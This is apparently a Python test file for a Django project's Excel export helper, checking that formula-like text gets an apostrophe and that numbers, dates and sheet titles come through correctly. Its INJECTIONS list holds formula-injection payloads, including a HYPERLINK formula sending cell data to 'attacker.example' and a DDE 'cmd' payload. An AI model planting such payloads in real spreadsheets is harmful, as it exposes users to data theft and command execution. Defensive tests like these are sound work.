"""Excel output: text that looks like a formula stays text; numbers and dates keep their types; a readable sheet."""

from __future__ import annotations

import datetime
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from sauro.common.excel import DATE_FORMAT, safe_cell, sheet_title, workbook_bytes

INJECTIONS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")',
    "+1",
    "-1+2",
    "@SUM(A1:A9)",
    "=1+1",
    "\t=cmd|' /C calc'!A0",
    "\r=2+3",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [0, 7, -1, 2.5, Decimal("12.50"), True, None, datetime.date(2026, 2, 23), datetime.datetime(2026, 2, 23, 8, 0)],
)
def test_numbers_dates_and_empty_cells_keep_their_type(value: object) -> None:
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


def test_plain_text_is_unchanged_and_control_characters_are_dropped() -> None:
    assert safe_cell("Báo cáo sơ kết quý I/2026") == "Báo cáo sơ kết quý I/2026"
    assert safe_cell("a = b + c") == "a = b + c"
    assert safe_cell("Dòng 1\nDòng 2") == "Dòng 1\nDòng 2"
    assert safe_cell("x\x00y\x07z") == "xyz"
    # An object becomes its text, checked like any text.
    assert safe_cell(type("Obj", (), {"__str__": lambda self: "=EVIL()"})()) == "'=EVIL()"


def test_an_aware_datetime_becomes_local_wall_time() -> None:
    moment = datetime.datetime(2026, 3, 2, 2, 0, tzinfo=datetime.UTC)
    value = safe_cell(moment)
    assert value == datetime.datetime(2026, 3, 2, 9, 0)  # Asia/Ho_Chi_Minh is UTC+7
    assert isinstance(value, datetime.datetime) and not timezone.is_aware(value)


def test_sheet_titles_that_excel_accepts() -> None:
    assert sheet_title("Danh sách nhiệm vụ") == "Danh sách nhiệm vụ"
    assert sheet_title("Quý I/2026: [tổng hợp]") == "Quý I 2026   tổng hợp"
    assert len(sheet_title("Báo cáo " * 10)) <= 31
    assert sheet_title("***") == "Trang 1"


def _open(data: bytes):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(data))


def test_workbook_layout_and_cell_types() -> None:
    headers = ["STT", "Tên nhiệm vụ", "Thời hạn", "Tiến độ (%)"]
    rows = [
        [1, "Rà soát chương trình công tác", datetime.date(2026, 1, 23), 100],
        [2, '=HYPERLINK("http://x")', datetime.date(2026, 2, 23), 40],
        [3, "-1+2", None, Decimal("12.5")],
        [4, "@SUM(A1:A9)", datetime.date(2026, 12, 31), -3],
    ]
    data = workbook_bytes("Danh sách nhiệm vụ", headers, iter(rows), column_widths=[6, 50])
    ws = _open(data).active
    assert ws.title == "Danh sách nhiệm vụ"
    assert [c.value for c in ws[1]] == headers
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:D5"
    assert ws.column_dimensions["B"].width == 50
    assert ws.max_row == 5

    due = ws["C2"]
    assert due.is_date and due.value == datetime.datetime(2026, 1, 23) and due.number_format == DATE_FORMAT
    assert ws["C4"].value is None
    assert ws["A2"].data_type == "n" and ws["A2"].value == 1
    assert ws["D4"].data_type == "n" and ws["D4"].value == 12.5
    assert ws["D5"].data_type == "n" and ws["D5"].value == -3
    for cell, text in ((ws["B3"], '=HYPERLINK("http://x")'), (ws["B4"], "-1+2"), (ws["B5"], "@SUM(A1:A9)")):
        assert cell.data_type == "s"
        assert cell.value == "'" + text


def test_an_empty_list_still_has_its_header() -> None:
    ws = _open(workbook_bytes("Trống", ["STT", "Tên"], [])).active
    assert [c.value for c in ws[1]] == ["STT", "Tên"]
    assert ws.max_row == 1
    assert ws.auto_filter.ref == "A1:B1"
